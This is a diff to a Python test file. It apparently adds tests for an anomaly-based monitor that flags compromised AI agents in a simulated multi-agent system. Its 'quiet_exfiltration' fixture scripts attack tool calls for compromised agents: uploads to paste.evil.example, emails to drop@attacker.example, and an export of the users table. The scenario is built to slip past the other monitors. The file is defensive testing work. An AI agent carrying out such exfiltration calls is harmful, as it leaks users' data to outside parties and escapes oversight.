@@ -408,6 +408,13 @@ BAD: list[tuple[str, Any, str]] = [
     ),
     ("roles.triage.tools.search.recorded", True, "roles.triage.tools.search"),
     ("traffic", "calls:/nonexistent/calls.jsonl", "traffic.from"),
+    ("anomaly", "yes", "anomaly"),
+    ("anomaly", {"threshold": 2}, "anomaly.warmup_runs"),
+    ("anomaly", {"warmup_runs": 0}, "anomaly.warmup_runs"),
+    ("anomaly", {"warmup_runs": 2.5}, "anomaly.warmup_runs"),
+    ("anomaly", {"warmup_runs": 10, "threshold": 0}, "anomaly.threshold"),
+    ("anomaly", {"warmup_runs": 10, "threshold": "high"}, "anomaly.threshold"),
+    ("anomaly", {"warmup_runs": 10, "warmups": 10}, "anomaly.warmups"),
 ]
 
 
@@ -682,3 +689,145 @@ def test_budget_exhaustion_is_reported_per_budget() -> None:
 def test_graph_fidelity_on_workers_gives_the_same_report() -> None:
     data = scenario_data(seed=13, interactions=400, shards=2)
     same(run(data, fidelity="graph"), run(data, fidelity="graph", workers=2))
+
+
+# -- the anomaly signal ------------------------------------------------------------------------------
+
+
+def quiet_exfiltration(
+    *, seed: int = 3, share: float = 0.3, anomaly: bool = True, interactions: int = 3_000
+) -> dict[str, Any]:
+    """Compromised agents that never loop or relay, under a policy that allows everything:
+    only their departures from habit (hosts, recipients, tools the role never uses) show."""
+    data: dict[str, Any] = {
+        "name": "quiet-exfiltration",
+        "seed": seed,
+        "interactions": interactions,
+        "shards": 2,
+        "policy": {"rules": [{"allow": "*"}]},
+        "roles": {
+            "triage": {
+                "count": 4,
+                "entry": 1,
+                "think": [0.2, 2],
+                "calls": [2, 5],
+                "tools": {
+                    "search": {"weight": 3, "args": {"q": {"choice": ["refunds", "shipping"]}}},
+                    "fetch_url": {
+                        "args": {
+                            "url": {
+                                "choice": [
+                                    "https://docs.example.com/a",
+                                    "https://docs.example.com/b",
+                                ]
+                            }
+                        }
+                    },
+                },
+                "handoffs": {"writer": 0.5},
+                "attacks": [
+                    {"tool": "fetch_url", "args": {"url": "https://paste.evil.example/up"}},
+                    {"tool": "send_email", "args": {"to": "drop@attacker.example"}},
+                    {"tool": "export_db", "args": {"table": "users"}},
+                ],
+            },
+            "writer": {
+                "count": 3,
+                "calls": [1, 3],
+                "tools": {
+                    "send_email": {
+                        "args": {"to": {"choice": ["ann@example.com", "bob@example.com"]}}
+                    }
+                },
+                "attacks": [
+                    {"tool": "send_email", "args": {"to": "drop@attacker.example"}},
+                    {"tool": "fetch_url", "args": {"url": "https://paste.evil.example/up"}},
+                ],
+            },
+        },
+        "faults": {
+            "compromised": {
+                "share": share,
+                "onset": [0, 60],
+                "misbehave": 0.6,
+                "relay": 0.0,
+                "loop": 0.0,
+            }
+        },
+    }
+    if anomaly:
+        data["anomaly"] = {"warmup_runs": 200}
+    return data
+
+
+@settings(max_examples=5, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(
+    seed=st.integers(0, 2**32),
+    share=st.sampled_from([0.0, 0.3, 1.0]),
+    warmup=st.integers(1, 80),
+    threshold=st.sampled_from([1.0, 2.5, 3.0]),
+)
+def test_the_anomaly_signal_keeps_the_report_deterministic_and_exactly_sharded(
+    seed: int, share: float, warmup: int, threshold: float
+) -> None:
+    data = {
+        **scenario_data(seed=seed, share=share, interactions=1_200, shards=2),
+        "anomaly": {"warmup_runs": warmup, "threshold": threshold},
+    }
+    a, b = run(data), run(data)
+    same(a, b)
+    same(a, run(data, workers=2))
+    an = a.to_dict()["anomaly"]
+    assert an["threshold"] == threshold
+    assert an["warmup_runs"] == 2 * warmup  # every shard learns from its own warm-up
+    assert an["trips"] == sum(n for k, n in a.trips.items() if k.startswith("anomaly:"))
+    assert an["false_alarms"] <= an["trips"]
+    assert an["caught"] <= an["compromised_acted"]
+    assert an["honest_runs"] <= a.runs
+    assert run({k: v for k, v in data.items() if k != "anomaly"}).to_dict()["anomaly"] is None
+
+
+def test_the_anomaly_signal_catches_agents_that_leave_their_habits() -> None:
+    caught = acted = 0
+    for seed in (3, 4, 5):
+        on = run(quiet_exfiltration(seed=seed))
+        an = on.to_dict()["anomaly"]
+        acted += an["compromised_acted"]
+        caught += an["caught"]
+        # nothing else can see them: no loops, no relays, a policy that allows everything
+        off = run(quiet_exfiltration(seed=seed, anomaly=False))
+        assert off.containment_summary()["contained"] == 0
+        assert off.trips == {}
+        # what the anomaly signal caught, it contained, and the report says so per agent
+        assert an["caught_first"] == an["caught"] == on.containment_summary()["contained"]
+        for c in on.to_dict()["compromised_agents"]:
+            if c["calls_to_anomaly"] is not None:
+                assert c["signal"] == "anomaly"
+                assert 1 <= c["calls_to_anomaly"] <= c["calls"]
+        assert an["false_alarms"] == on.trip_culprits["honest"]
+        assert "anomaly signal" in str(on)
+    assert acted > 0
+    assert caught >= acted / 3
+
+
+@settings(max_examples=4, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(seed=st.integers(0, 2**32), warmup=st.sampled_from([5, 50, 200]))
+def test_without_compromised_agents_every_anomaly_trip_is_a_false_alarm(
+    seed: int, warmup: int
+) -> None:
+    data = quiet_exfiltration(seed=seed, share=0.0, interactions=2_000)
+    data["anomaly"] = {"warmup_runs": warmup}
+    r = run(data)
+    an = r.to_dict()["anomaly"]
+    assert an["compromised_acted"] == an["caught"] == 0
+    assert an["honest_runs"] == r.runs  # no compromised agent, no injection: all honest
+    assert an["false_alarms"] == an["trips"] == sum(r.trips.values())
+    assert an["false_alarms_per_1000_honest_runs"] == round(1000 * an["false_alarms"] / r.runs, 3)
+    if warmup >= 50:  # habits learned from enough runs: false alarms are rare
+        assert an["false_alarms_per_1000_honest_runs"] <= 20
+
+
+def test_the_anomaly_signal_needs_the_cascade_monitor() -> None:
+    data = {**quiet_exfiltration(), "cascade": False}
+    with pytest.raises(ScenarioError, match="anomaly"):
+        Scenario.from_dict(data)
